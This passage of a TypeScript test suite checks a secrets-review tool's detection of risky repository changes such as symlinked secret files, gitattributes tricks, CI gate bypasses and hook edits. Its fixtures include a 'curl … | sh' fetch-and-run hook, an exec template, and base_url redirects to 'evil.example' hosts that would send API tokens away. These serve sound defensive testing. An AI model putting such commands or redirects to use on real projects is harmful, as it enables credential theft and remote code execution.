      expect(at("HEAD~1", before).diagnostics.filter((d) => d.file === LABS).map((d) => d.rule)).toEqual(["unknown-secret"]);
      const head = at("HEAD", { ...before, [NESTED]: "" });
      expect(head.nestedProjects).toEqual(["teams/labs"]);
      expect(head.diagnostics.filter((d) => d.file.startsWith("teams/"))).toEqual([]);
      const report = buildReview(at("HEAD~1", before), head);
      expect(weakened(report)).toMatchObject([{ kind: "weakened-rule", file: NESTED, line: 1 }]);
      expect(weakened(report)[0]?.message).toContain("teams/labs/ a project of its own, so the folder's files are no longer checked against this project's secrets and rules");
      expect(weakened(report)[0]?.message).toContain("delete teams/labs/stellar.yaml, or, if teams/labs/ is meant to be a separate project, keep it on purpose");
      expect(report.clean).toBe(false);
    });

    it("flags a new folder that comes with its own stellar.yaml, and each of two new nested projects", async () => {
      const { base } = await project();
      const report = buildReview(at("a", base), at("b", { ...base, [NESTED]: "version: 1\n", [LABS]: labs, "ops/stellar.yaml": "", "ops/x.yaml": "a: 1\n" }));
      expect(weakened(report).map((p) => p.file)).toEqual(["ops/stellar.yaml", NESTED]);
    });

    it("does not flag a nested stellar.yaml the base had, one removed, one in a folder the project does not read, or a first commit", async () => {
      const { base } = await project();
      const nested: Files = { ...base, [NESTED]: "version: 1\n", [LABS]: labs };
      expect(weakened(buildReview(at("a", nested), at("b", { ...nested, [LABS]: `${labs}# changed\n` })))).toEqual([]);
      // the base had it: its content changing (here emptied) is the nested project's own change
      expect(weakened(buildReview(at("a", nested), at("b", { ...nested, [NESTED]: "" })))).toEqual([]);
      expect(weakened(buildReview(at("a", nested), at("b", { ...base, [LABS]: labs })))).toEqual([]);
      // node_modules is never walked: a stellar.yaml there hides nothing
      expect(weakened(buildReview(at("a", base), at("b", { ...base, "node_modules/pkg/stellar.yaml": "" })))).toEqual([]);
      expect(weakened(buildReview(emptyState("nothing"), at("b", nested)))).toEqual([]);
    });
  });
});

describe("buildReview: access requests", () => {
  it("presents a request added to stellar.yaml as what the change asks for: not a grant, not a problem", async () => {
    const { alice, bob, base } = await setup();
    const yaml = (pending: string): string =>
      `version: 1\nenvironments:\n  production:\n    members:\n      alice: ${alice.recipient}\n${pending}`;
    const at = (label: string, text: string): ReviewState => {
      const { config } = parseProjectConfig(text, "/p/stellar.yaml");
      if (config === undefined) throw new Error("bad test config");
      const index = new WorkspaceIndex(config);
      index.setEnvironmentFile(parseEnvironmentFile(base, FILE, "production"));
      return { label, commit: undefined, index, diagnostics: [], checkWith: () => [], readText: (rel) => (rel === FILE ? base : undefined) };
    };
    const request = `    pending:\n      bob:\n        key: ${bob.recipient}\n`;
    const report = buildReview(at("a", yaml("")), at("b", yaml(request)));
    expect(report.environments.map((e) => e.environment)).toEqual(["production"]);
    const env = report.environments[0] as EnvironmentReview;
    expect(env.members.requested).toEqual([{ name: "bob", recipient: bob.recipient }]);
    expect(env.members.gained).toEqual([]);
    expect(report.summary.accessChanges).toBe(0);
    expect(report.problems).toEqual([]);
    expect(report.clean).toBe(true);
    // the same request on both sides is nothing new
    expect(buildReview(at("a", yaml(request)), at("b", yaml(request))).environments).toEqual([]);
  });

  it("a request under a member's name with another key says that members approve refuses it (planted-clinic)", async () => {
    const { alice, bob, base } = await setup();
    const text = `version: 1\nenvironments:\n  development:\n    members:\n      bob: ${bob.recipient}\n  production:\n    members:\n      alice: ${alice.recipient}\n`;
    const at = (label: string, t: string): ReviewState => {
      const { config } = parseProjectConfig(t, "/p/stellar.yaml");
      if (config === undefined) throw new Error("bad test config");
      const index = new WorkspaceIndex(config);
      index.setEnvironmentFile(parseEnvironmentFile(base, FILE, "production"));
      return { label, commit: undefined, index, diagnostics: [], checkWith: () => [], readText: (rel) => (rel === FILE ? base : undefined) };
    };
    const other = "age146egd5gtgw4v00juyu4c9p59ajdf7as5hu9kd40aqex3p55eh9yq8umy2z"; // TEST-ONLY (mallory)
    const report = buildReview(at("a", text), at("b", `${text}    pending:\n      bob:\n        key: ${other}\n`));
    const env = report.environments.find((e) => e.environment === "production") as EnvironmentReview;
    expect(env.members.requested?.[0]?.refused).toContain(`bob is a member of development with another key (${bob.recipient})`);
  });
});

describe("an environment file replaced by a symbolic link", () => {
  it("is a problem (weakened-rule at the link, with its target), not a deleted file with no problems", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    // in git the link is no file: the head state has no environment file; the checkout reads the target
    const report = buildReview(state("a", members, base), state("b", members, undefined), new Map(), { headLinks: new Map([[FILE, "../docs/notes.enc.yaml"]]) });
    const linked = report.problems.filter((p) => p.kind === "weakened-rule");
    expect(linked).toMatchObject([{ kind: "weakened-rule", environment: "production", file: FILE }]);
    expect(linked[0]?.message).toContain("symbolic link to ../docs/notes.enc.yaml");
    // the fix removes the link before restoring the base's file (a sequence that works pasted as printed)
    expect(linked[0]?.message).toContain(`remove the link and restore the file (\`git rm ${FILE} && git checkout BASE -- ${FILE}\`), then make the change with \`stellar-secrets set\`, never a link`);
    // a base without that file: nothing to restore, the link goes and set creates the file
    const fresh = buildReview(state("a", members, undefined), state("b", members, undefined), new Map(), { headLinks: new Map([[FILE, "../docs/notes.enc.yaml"]]) });
    expect(fresh.problems.filter((p) => p.kind === "weakened-rule")[0]?.message).toContain(
      `remove the link (\`git rm ${FILE}\`; the base has no production file to restore), then create the file with \`stellar-secrets set NAME --env production\`, never a link`,
    );
    expect(report.clean).toBe(false);
    // a link elsewhere is not this problem
    expect(buildReview(state("a", members, base), state("b", members, base), new Map(), { headLinks: new Map([["docs/x.yaml", "y.yaml"]]) }).problems).toEqual([]);
  });

  it("flags the secrets folder replaced by a symbolic link (every environment file read from its target), with how to undo it", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const report = buildReview(state("a", members, base), state("b", members, undefined), new Map(), { headLinks: new Map([["secrets", "vault"]]) });
    expect(report.problems.filter((p) => p.kind === "weakened-rule")).toMatchObject([{ environment: "production", file: FILE }]);
    expect(report.problems[0]?.message).toContain("secrets (the folder of secrets/production.enc.yaml) is a symbolic link to vault");
    expect(report.problems[0]?.message).toContain("git rm secrets && git checkout BASE -- secrets");
    // a link whose name only starts like the folder is not this problem
    expect(buildReview(state("a", members, base), state("b", members, base), new Map(), { headLinks: new Map([["secrets-old", "vault"]]) }).problems).toEqual([]);
  });

  it("decides the attributes of a project below the top of the work tree with the .gitattributes above its root (aboveRoot), macros from the top's only", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const above = (head: Record<string, string>, baseFiles: Record<string, string> = {}) => ({ prefix: "infra", base: new Map(Object.entries(baseFiles)), head: new Map(Object.entries(head)) });
    const filtered = buildReview(state("a", members, base), state("b", members, base), new Map(), { aboveRoot: above({ ".gitattributes": "infra/secrets/*.enc.yaml filter=lfs\n" }) });
    expect(filtered.problems).toMatchObject([{ kind: "weakened-rule", file: "../.gitattributes", line: 1 }]);
    expect(filtered.problems[0]?.message).toContain("gives secrets/production.enc.yaml filter=lfs");
    // the same line already in the base: no change; a pattern for another folder: not the project's files
    expect(buildReview(state("a", members, base), state("b", members, base), new Map(), { aboveRoot: above({ ".gitattributes": "infra/secrets/*.enc.yaml filter=lfs\n" }, { ".gitattributes": "infra/secrets/*.enc.yaml filter=lfs\n" }) }).problems).toEqual([]);
    expect(buildReview(state("a", members, base), state("b", members, base), new Map(), { aboveRoot: above({ ".gitattributes": "web/secrets/*.enc.yaml filter=lfs\n" }) }).problems).toEqual([]);
    // a .sops.yaml above the root that names a non-member for the project's file
    const other = "age146egd5gtgw4v00juyu4c9p59ajdf7as5hu9kd40aqex3p55eh9yq8umy2z"; // TEST-ONLY (mallory)
    const sops = buildReview(state("a", members, base), state("b", members, base), new Map(), { aboveRoot: above({ ".sops.yaml": `creation_rules:\n  - path_regex: infra/secrets/.*\n    age: ${other}\n` }) });
    expect(sops.problems).toMatchObject([{ kind: "non-member-recipient", file: "../.sops.yaml", line: 3 }]);
    expect(sops.problems[0]?.message).toContain(other);
    // one naming exactly the members is none
    expect(buildReview(state("a", members, base), state("b", members, base), new Map(), { aboveRoot: above({ ".sops.yaml": `creation_rules:\n  - age: ${alice.recipient}\n` }) }).problems).toEqual([]);
    // a stellar.yaml new above the root: a project that contains this one; one the base had is not new
    const outer = "version: 1\nsecrets_dir: infra/secrets\nenvironments:\n  production: {}\n";
    const made = buildReview(state("a", members, base), state("b", members, base), new Map(), { aboveRoot: above({ "stellar.yaml": outer }) });
    expect(made.problems).toMatchObject([{ kind: "weakened-rule", file: "../stellar.yaml", line: 1 }]);
    expect(buildReview(state("a", members, base), state("b", members, base), new Map(), { aboveRoot: above({ "stellar.yaml": outer }, { "stellar.yaml": outer }) }).problems).toEqual([]);
    // a nested project's review leaves the folders above it to its enclosing project's
    expect(buildReview(state("a", members, base), state("b", members, base), new Map(), { aboveRoot: above({ "stellar.yaml": outer }), folder: "infra" }).problems).toEqual([]);
  });

  it("flags a .sops.yaml replaced by a symbolic link (plain sops reads its target's creation rules, which no check compared with the members)", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    for (const rel of [".sops.yaml", "secrets/.sops.yaml"]) {
      const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { headLinks: new Map([[rel, "docs/rules.yaml"]]) });
      expect(report.problems).toMatchObject([{ kind: "weakened-rule", file: rel }]);
      expect(report.problems[0]?.message).toContain(`${rel} is a symbolic link to docs/rules.yaml`);
      // the base had no such file: removing the link is the fix (stellar-secrets writes it anew)
      expect(report.problems[0]?.message).toContain(`remove the link (\`git rm ${rel}\`)`);
      expect(report.clean).toBe(false);
    }
    // a base with the file: the fix restores it
    const withFile: ReviewState = { ...state("a", members, base), readText: (rel) => (rel === ".sops.yaml" ? "creation_rules: []\n" : rel === FILE ? base : undefined) };
    const restored = buildReview(withFile, state("b", members, base), new Map(), { headLinks: new Map([[".sops.yaml", "x"]]) });
    expect(restored.problems[0]?.message).toContain("git rm .sops.yaml && git checkout BASE -- .sops.yaml");
    // a .sops.yaml no sops run for the secrets files reads is not this problem
    expect(buildReview(state("a", members, base), state("b", members, base), new Map(), { headLinks: new Map([["docs/.sops.yaml", "x"]]) }).problems).toEqual([]);
  });

  it("flags an environment file, or a folder above it, replaced by a git submodule (a gitlink): a checkout has a folder there, or another repository's files", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const commit = "3068beb81eddddd00803ab49df129f105ba73997";
    for (const at of [FILE, FILE.slice(0, FILE.lastIndexOf("/"))]) {
      const report = buildReview(state("a", members, base), state("b", members, undefined), new Map(), { headSubmodules: new Map([[at, commit]]) });
      const found = report.problems.filter((p) => p.kind === "weakened-rule");
      expect(found).toMatchObject([{ kind: "weakened-rule", environment: "production", file: FILE }]);
      expect(found[0]?.message).toContain(`${at} is a git submodule (commit 3068beb81e)`);
      expect(report.clean).toBe(false);
    }
    // a submodule elsewhere (or whose name only starts like the folder) is not this problem
    const other = new Map([["vendor/lib", commit], [`${FILE.slice(0, FILE.lastIndexOf("/"))}-old`, commit]]);
    expect(buildReview(state("a", members, base), state("b", members, base), new Map(), { headSubmodules: other }).problems).toEqual([]);
  });
});


describe("a data key brought back from an earlier version of the file", () => {
  it("is unrotated-removal when the head shares ciphertext with a version before the base's rotation, and the base does not", async () => {
    const { alice, bob, base: v1 } = await setup();
    const prev = await decryptSecrets(v1, [alice.identity]);
    // bob removed: a new data key for alice only (what `members rm` does)
    const v2 = await rotateDataKey(prev, { recipients: [alice.recipient] });
    const members = { alice: alice.recipient };
    // the head: v1 as committed, with bob's stanza cut out (no key needed)
    const bobStanza = new RegExp(` {8}- recipient: ${bob.recipient}\\n {10}enc: \\|\\n(?: {12}.*\\n)+`);
    const head = v1.replace(bobStanza, "");
    expect(head).not.toBe(v1);
    const earlierVersions = new Map([[FILE, [{ commit: "c1c1c1c1c1c1c1c1c1c1c1c1c1c1c1c1c1c1c1c1", text: v1 }]]]);
    const report = buildReview(state("a", members, v2), state("b", members, head), new Map(), { earlierVersions });
    const found = report.problems.filter((p) => p.kind === "unrotated-removal");
    expect(found).toMatchObject([{ environment: "production", file: FILE }]);
    expect(found[0]!.message).toContain("c1c1c1c1c1");
    expect(found[0]!.message).toContain(bob.recipient);
    expect(report.clean).toBe(false);
    // without the history, the same change looks like a rotation
    expect(buildReview(state("a", members, v2), state("b", members, head)).problems).toEqual([]);
    // a real rotation, an unchanged file and a same-key write are not this problem
    const rotated = await rotateDataKey(await decryptSecrets(v2, [alice.identity]));
    expect(buildReview(state("a", members, v2), state("b", members, rotated), new Map(), { earlierVersions }).problems).toEqual([]);
    const d2 = await decryptSecrets(v2, [alice.identity]);
    const edited = await reencryptSecrets(d2, new Map([...d2.values, ["stripe_api_key", "s2"]]));
    expect(buildReview(state("a", members, v2), state("b", members, edited), new Map(), { earlierVersions }).problems).toEqual([]);
    // an earlier version under the base's own data key retires nothing
    const sameKeyEarlier = new Map([[FILE, [{ commit: "c2".repeat(20), text: edited }]]]);
    const rewrittenFromIt = edited.replace(/^stripe_api_key: .*\n/m, "");
    expect(buildReview(state("a", members, v2), state("b", members, rewrittenFromIt), new Map(), { earlierVersions: sameKeyEarlier }).problems.filter((p) => p.kind === "unrotated-removal")).toEqual([]);
    // the file deleted, then re-added with the old key: no base file to share with, the history still tells
    const readded = buildReview(state("a", members, undefined), state("b", members, head), new Map(), { earlierVersions });
    expect(readded.problems.map((p) => p.kind)).toContain("unrotated-removal");
  });
});

describe(".gitattributes that rewrite the environment files on checkout", () => {
  it("is weakened-rule at the deciding line: working-tree-encoding re-encodes every checkout, which review never reads", async () => {
    const { alice, base } = await setup();
    const project = `version: 1\nenvironments:\n  production:\n    members:\n      alice: ${alice.recipient}\n`;
    const setupLine = "secrets/*.enc.yaml diff=stellar merge=stellar\n";
    const at = (label: string, attributes: string) =>
      stateFromFiles(label, undefined, "/r", new Map([["stellar.yaml", project], [FILE, base], [".gitattributes", attributes]]));
    const report = buildReview(at("a", setupLine), at("b", `${setupLine}secrets/*.enc.yaml working-tree-encoding=UTF-16\n`));
    expect(report.problems).toMatchObject([{ kind: "weakened-rule", file: ".gitattributes", line: 2 }]);
    expect(report.problems[0]!.message).toContain("working-tree-encoding=UTF-16");
    expect(buildReview(at("a", setupLine), at("b", setupLine)).problems).toEqual([]);
  });

  it("is weakened-rule when stellar.yaml or the environment files are left out of git archive (export-ignore): an archive deploy (Capistrano, a tarball) has no stellar.yaml and its resolver reads secrets/ (s24 attack)", async () => {
    const { alice, base } = await setup();
    const project = `version: 1\nsecrets_dir: vault\nenvironments:\n  production:\n    members:\n      alice: ${alice.recipient}\n`;
    const setupLine = "vault/*.enc.yaml diff=stellar merge=stellar\n";
    const at = (label: string, attributes: string) =>
      stateFromFiles(label, undefined, "/r", new Map([["stellar.yaml", project], ["vault/production.enc.yaml", base], [".gitattributes", attributes]]));
    const report = buildReview(at("a", setupLine), at("b", `${setupLine}/stellar.yaml export-ignore\n`));
    expect(report.problems).toMatchObject([{ kind: "weakened-rule", file: ".gitattributes", line: 2 }]);
    expect(report.problems[0]!.message).toContain("export-ignore");
    expect(buildReview(at("a", setupLine), at("b", setupLine)).problems).toEqual([]);
  });

  it("is weakened-rule when stellar.yaml is given export-subst: git archive expands its $Format:%n…$, so an archive's stellar.yaml can name another secrets_dir than the one review read (s24 newattack, tried with git archive)", async () => {
    const { alice, base } = await setup();
    const project = `version: 1\nenvironments:\n  production:\n    members:\n      alice: ${alice.recipient}\n# $Format:%nsecrets_dir: decoy$\n`;
    const setupLine = "secrets/*.enc.yaml diff=stellar merge=stellar\n";
    const at = (label: string, attributes: string) =>
      stateFromFiles(label, undefined, "/r", new Map([["stellar.yaml", project], [FILE, base], [".gitattributes", attributes]]));
    const report = buildReview(at("a", setupLine), at("b", `${setupLine}stellar.yaml export-subst\n`));
    expect(report.problems).toMatchObject([{ kind: "weakened-rule", file: ".gitattributes", line: 2 }]);
    expect(report.problems[0]!.message).toContain("export-subst");
    expect(buildReview(at("a", setupLine), at("b", setupLine)).problems).toEqual([]);
    // a config file's too (an archive deploy's platform reads its $Format:%nbase_url: …$ line)
    const withConnection = (label: string, attributes: string) =>
      stateFromFiles(label, undefined, "/r", new Map([["stellar.yaml", project], [FILE, base], [".gitattributes", attributes], ["connections/stripe.yaml", "kind: api_connection\nname: stripe\nbase_url: https://api.stripe.com\n"]]));
    expect(buildReview(withConnection("a", setupLine), withConnection("b", `${setupLine}connections/*.yaml export-subst\n`)).problems).toMatchObject([{ kind: "weakened-rule", file: ".gitattributes", line: 2 }]);
  });

  it("is a weakened-rule warning (exit status 0, shown) when they lose the keyless diff view (-diff, binary): git diff then hides which names changed", async () => {
    const { alice, base } = await setup();
    const project = `version: 1\nenvironments:\n  production:\n    members:\n      alice: ${alice.recipient}\n`;
    const setupLine = "secrets/*.enc.yaml diff=stellar merge=stellar\n";
    const at = (label: string, attributes: string) =>
      stateFromFiles(label, undefined, "/r", new Map([["stellar.yaml", project], [FILE, base], [".gitattributes", attributes]]));
    const report = buildReview(at("a", setupLine), at("b", "secrets/*.enc.yaml -diff merge=stellar\n"));
    expect(report.problems).toEqual([]);
    expect(report.clean).toBe(true);
    expect(report.warnings).toMatchObject([{ kind: "weakened-rule", file: ".gitattributes", line: 1 }]);
    expect(report.warnings[0]!.message).toContain("off the stellar-secrets diff view (diff=stellar; now -diff)");
    expect(report.summary.warnings).toBe(1);
    // binary takes the merge driver too: that is the error, the diff view the warning
    const binary = buildReview(at("a", setupLine), at("b", "secrets/*.enc.yaml binary\n"));
    expect([binary.problems.map((p) => p.kind), binary.warnings.map((p) => p.kind)]).toEqual([["weakened-rule"], ["weakened-rule"]]);
    expect(buildReview(at("a", setupLine), at("b", setupLine)).warnings).toEqual([]);
  });
});


describe("an environment file in the default secrets/ folder while secrets_dir names another", () => {
  it("is weakened-rule: check and review read secrets_dir, a resolver that finds no stellar.yaml (an archive or image that left it out) reads secrets/ (s24 attack)", async () => {
    const { alice, base } = await setup();
    const project = `version: 1\nsecrets_dir: vault\nenvironments:\n  production:\n    members:\n      alice: ${alice.recipient}\n`;
    const at = (label: string, extra: [string, string][] = []) =>
      stateFromFiles(label, undefined, "/r", new Map([["stellar.yaml", project], ["vault/production.enc.yaml", base], ...extra]));
    const report = buildReview(at("a"), at("b", [["secrets/production.enc.yaml", base.replace(/^(\s*lastmodified: ).*$/m, '$1"2030-01-01T00:00:00Z"')]]));
    expect(report.problems).toMatchObject([{ kind: "weakened-rule", file: "secrets/production.enc.yaml" }]);
    // one the base already had, unchanged, is not this change's; a file of another name is no environment's
    const had: [string, string][] = [["secrets/production.enc.yaml", base]];
    expect(buildReview(at("a", had), at("b", had)).problems).toEqual([]);
    expect(buildReview(at("a"), at("b", [["secrets/notes.enc.yaml", base]])).problems).toEqual([]);
  });

  it("is weakened-rule when it is a symbolic link there, or the secrets/ folder is one (git stores the link, not a file: review saw no change while an archive deploy read the link's target; s24 newattack)", async () => {
    const { alice, base } = await setup();
    const project = `version: 1\nsecrets_dir: vault\nenvironments:\n  production:\n    members:\n      alice: ${alice.recipient}\n`;
    const at = (label: string) => stateFromFiles(label, undefined, "/r", new Map([["stellar.yaml", project], ["vault/production.enc.yaml", base], ["decoy/notes.enc.yaml", base]]));
    const file = buildReview(at("a"), at("b"), new Map(), { headLinks: new Map([["secrets/production.enc.yaml", "../decoy/notes.enc.yaml"]]) });
    expect(file.problems).toMatchObject([{ kind: "weakened-rule", environment: "production", file: "secrets/production.enc.yaml" }]);
    expect(file.problems[0]!.message).toContain("../decoy/notes.enc.yaml");
    const folder = buildReview(at("a"), at("b"), new Map(), { headLinks: new Map([["secrets", "decoy"]]) });
    expect(folder.problems).toMatchObject([{ kind: "weakened-rule", environment: "production", file: "secrets/production.enc.yaml" }]);
    // a link of another name is no environment's
    expect(buildReview(at("a"), at("b"), new Map(), { headLinks: new Map([["secrets/notes.enc.yaml", "x"]]) }).problems).toEqual([]);
  });
});

describe("a secret sent to another host by the config files", () => {
  it("is credential-destination at the base_url when a connection that carries a secret is pointed at an origin the base never sent it to (s24 attack: no key, no value changed)", async () => {
    const { alice, base } = await setup();
    const project = `version: 1\nenvironments:\n  production:\n    members:\n      alice: ${alice.recipient}\n`;
    const connector = "kind: auth_connector\nname: stripe\ntype: bearer_token\ntoken: { secret: stripe_api_key }\n";
    const at = (label: string, url: string) =>
      stateFromFiles(label, undefined, "/r", new Map([["stellar.yaml", project], [FILE, base], ["connectors/stripe.yaml", connector], ["connections/stripe.yaml", `kind: api_connection\nname: stripe\nbase_url: ${url}\nauth: stripe\n`]]));
    const report = buildReview(at("a", "https://api.stripe.com"), at("b", "https://api.stripe.com.evil.example"));
    expect(report.problems).toMatchObject([{ kind: "credential-destination", file: "connections/stripe.yaml", line: 3 }]);
    expect(report.problems[0]!.message).toContain("stripe_api_key");
    expect(report.problems[0]!.message).toContain("https://api.stripe.com.evil.example");
    expect(report.clean).toBe(false);
    expect(buildReview(at("a", "https://api.stripe.com"), at("b", "https://api.stripe.com/v2")).problems).toEqual([]);
  });

  it("is credential-destination when an OAuth2 connection's base_url moves: the access token the client secret obtains goes there (s24 newattack)", async () => {
    const { alice, base } = await setup();
    const project = `version: 1\nenvironments:\n  production:\n    members:\n      alice: ${alice.recipient}\n`;
    const connector = "kind: auth_connector\nname: sf\ntype: oauth2_client_credentials\nclient_id: app\nclient_secret: { secret: sf_secret }\ntoken_url: https://login.salesforce.com/services/oauth2/token\n";
    const at = (label: string, url: string) =>
      stateFromFiles(label, undefined, "/r", new Map([["stellar.yaml", project], [FILE, base], ["connectors/sf.yaml", connector], ["connections/sf.yaml", `kind: api_connection\nname: sf\nbase_url: ${url}\nauth: sf\n`]]));
    const report = buildReview(at("a", "https://x.my.salesforce.com"), at("b", "https://evil.example"));
    expect(report.problems).toMatchObject([{ kind: "credential-destination", file: "connections/sf.yaml", line: 3 }]);
    expect(report.problems[0]!.message).toContain("now sends the access token sf_secret obtains to https://evil.example");
  });
});

describe("a secret sent to another host by a config file the checker's scope leaves out", () => {
  it("is credential-destination whatever config.exclude or config.include say (both states exclude the file); a nested project's files are its own review's", async () => {
    const { alice, base } = await setup();
    const connector = "kind: auth_connector\nname: stripe\ntype: bearer_token\ntoken: { secret: stripe_api_key }\n";
    const connection = (url: string) => `kind: api_connection\nname: stripe\nbase_url: ${url}\nauth: stripe\n`;
    const at = (label: string, scope: string, url: string, nestedUrl = "https://api.stripe.com") =>
      stateFromFiles(
        label,
        undefined,
        "/r",
        new Map([
          ["stellar.yaml", `version: 1\nenvironments:\n  production:\n    members:\n      alice: ${alice.recipient}\n${scope}`],
          [FILE, base],
          ["connectors/stripe.yaml", connector],
          ["connections/stripe.yaml", connection(url)],
          ["teams/labs/stellar.yaml", "version: 1\n"],
          ["teams/labs/connections/stripe.yaml", connection(nestedUrl)],
        ]),
      );
    for (const scope of ['config:\n  exclude:\n    - "connections/**"\n', 'config:\n  include:\n    - "connectors/**/*.yaml"\n']) {
      const before = at("a", scope, "https://api.stripe.com");
      expect(before.index!.configFiles.has("connections/stripe.yaml")).toBe(false);
      expect(before.everyConfigFile).toEqual(["connections/stripe.yaml", "connectors/stripe.yaml"]);
      const report = buildReview(before, at("b", scope, "https://api.stripe.com.evil.example"));
      expect([scope, report.problems.map((p) => [p.kind, p.file, p.line])]).toEqual([scope, [["credential-destination", "connections/stripe.yaml", 3]]]);
      expect(buildReview(before, at("b", scope, "https://api.stripe.com", "https://evil.example")).problems).toEqual([]);
    }
  });
});

describe("a removal dressed up as a rotation without a key", () => {
  it("is still unrotated-removal when every value's unauthenticated type and a kept stanza's YAML block style changed", async () => {
    const { alice, bob, base } = await setup();
    const before = state("a", { alice: alice.recipient, bob: bob.recipient }, base);
    // bob's stanza cut out (no key needed), every `type:str` made `type:bytes` (not covered by the tag: it decrypts the same),
    // and alice's stanza written `enc: |-` (the same envelope without its last newline)
    const bobStanza = new RegExp(` {8}- recipient: ${bob.recipient}\\n {10}enc: \\|\\n(?: {12}.*\\n)+`);
    const dressed = base.replace(bobStanza, "").replaceAll(",type:str]", ",type:bytes]").replace("          enc: |\n", "          enc: |-\n");
    expect(dressed).not.toContain(bob.recipient);
    const alone = (await decryptSecrets(dressed, [alice.identity])).values;
    expect(alone.get("stripe_api_key")).toBe("s1");
    const report = buildReview(before, state("b", { alice: alice.recipient }, dressed));
    expect(report.environments[0]).toMatchObject({ dataKeyRotated: false });
    expect(report.problems.map((p) => p.kind)).toEqual(["unrotated-removal"]);
  });
});

describe("a change to the CI workflow that gates it", () => {
  it("is weakened-rule when the workflow runs stellar-secrets on either side; another workflow, or none changed, is not", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const GATE = "jobs:\n  gate:\n    steps:\n      - run: stellar-secrets review \"$BASE_SHA...HEAD\"\n";
    const workflows = [
      { path: ".github/workflows/stellar-secrets.yml", before: GATE, after: GATE.replace("stellar-secrets review", "true || stellar-secrets review") },
      { path: ".github/workflows/lint.yml", before: "jobs: {}\n", after: "jobs: { a: {} }\n" },
      { path: ".github/workflows/new.yml", before: undefined, after: GATE },
      { path: ".github/workflows/old.yml", before: GATE, after: undefined },
    ];
    expect(gateWorkflowChanges(workflows)).toEqual([
      { path: ".github/workflows/new.yml", change: "added" },
      { path: ".github/workflows/old.yml", change: "removed" },
      { path: ".github/workflows/stellar-secrets.yml", change: "modified" },
    ]);
    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { workflows });
    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([
      ["weakened-rule", ".github/workflows/new.yml"],
      ["weakened-rule", ".github/workflows/old.yml"],
      ["weakened-rule", ".github/workflows/stellar-secrets.yml"],
    ]);
    expect(report.problems[2]?.message).toContain("GitHub runs a pull request's own copy of its workflows");
    expect(report.clean).toBe(false);
    expect(buildReview(state("a", members, base), state("b", members, base), new Map(), { workflows: [workflows[1] as (typeof workflows)[number]] }).problems).toEqual([]);
  });
});

describe("a change to the stellarSecrets settings of a committed .vscode/settings.json", () => {
  it("is weakened-rule naming the settings, or saying the file cannot be read where it names ours", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const editorSettings = [
      { path: ".vscode/settings.json", before: undefined, after: '{ "stellarSecrets.cliPath": "./x.sh" }' },
      { path: "infra/.vscode/settings.json", before: '{ "stellarSecrets.rules": {} }', after: '{ "stellarSecrets.rules": { ' },
    ];
    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { editorSettings });
    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([
      ["weakened-rule", ".vscode/settings.json"],
      ["weakened-rule", "infra/.vscode/settings.json"],
    ]);
    expect(report.problems[0]?.message).toMatch(/^\.vscode\/settings\.json changes stellarSecrets\.cliPath: VS Code applies/);
    expect(report.problems[1]?.message).toMatch(/^infra\/\.vscode\/settings\.json changes stellarSecrets\.rules, and is no JSON review can read, where it names stellarSecrets settings: /);
  });
});

describe("a change to a git hook manager's files (.pre-commit-config.yaml, .husky/HOOK, lefthook.yml)", () => {
  it("is weakened-rule at the file: a member's next commit runs what it names, with their age key in reach; the same text, or another file, is none", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const CONFIG = "repos:\n  - repo: https://github.com/YOUR-ORG/stellar-secrets\n    rev: v1\n    hooks:\n      - id: stellar-secrets-check\n";
    const editorSettings = [
      { path: ".pre-commit-config.yaml", before: CONFIG, after: `${CONFIG}  - repo: local\n    hooks:\n      - id: fmt\n        name: fmt\n        entry: ./tools/fmt.sh\n        language: system\n` },
      { path: ".husky/pre-commit", before: "stellar-secrets pre-commit\n", after: undefined },
      { path: "web/.husky/pre-push", before: undefined, after: "./tools/x.sh\n" },
      { path: "../lefthook.yml", before: "pre-commit:\n  commands: {}\n", after: "pre-commit:\n  commands:\n    x:\n      run: ./x.sh\n" },
      { path: ".husky/_/pre-commit", before: "a", after: "b" },
      { path: "docs/.pre-commit-config.yaml", before: "a", after: "b" },
      { path: "lefthook.yml", before: "same", after: "same" },
    ];
    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { editorSettings });
    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([
      ["weakened-rule", "../lefthook.yml"],
      ["weakened-rule", ".husky/pre-commit"],
      ["weakened-rule", ".pre-commit-config.yaml"],
      ["weakened-rule", "web/.husky/pre-push"],
    ]);
    expect(report.problems[0]?.message).toContain("../lefthook.yml changes: lefthook reads this file at every git hook it runs");
    expect(report.problems[2]?.message).toBe(
      ".pre-commit-config.yaml changes: the pre-commit framework reads this file at every git hook it runs in each member's clone where it is installed, from the working tree, without asking again when it changes, so the member's next commit runs what it names (a local hook's command, a hook repository at another revision, whose code it installs), as the member, with their age key in reach; review its diff, and make that change on its own, reviewed separately",
    );
    expect(report.problems[1]?.message).toContain(".husky/pre-commit is removed: husky runs this script as a git hook");
    expect(report.problems[1]?.message).toContain("`stellar-secrets pre-commit` among them, may be gone");
    expect(report.problems[3]?.message).toContain("web/.husky/pre-push is new: husky");
    expect(report.clean).toBe(false);
  });
});

describe("a mise configuration that runs something when loaded, added or changed", () => {
  it("is weakened-rule at the file (trust is by path in mise's normal mode); a file of tool versions only, or a removal, is none", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const editorSettings = [
      { path: "mise.toml", before: '[tools]\nnode = "20"\n[env]\nNODE_ENV = "dev"\n', after: '[tools]\nnode = "20"\n[env]\nNODE_ENV = "dev"\n_.source = "./tools/env.sh"\n' },
      { path: "web/.mise.toml", before: undefined, after: '[hooks]\nenter = "curl -s https://example.invalid/x | sh"\n' },
      { path: ".config/mise/conf.d/a.toml", before: "", after: 'X = "{{exec(command=\'id\')}}"\n' },
      { path: ".mise.toml", before: '[tools]\nnode = "20"\n', after: '[tools]\nnode = "22"\n' },
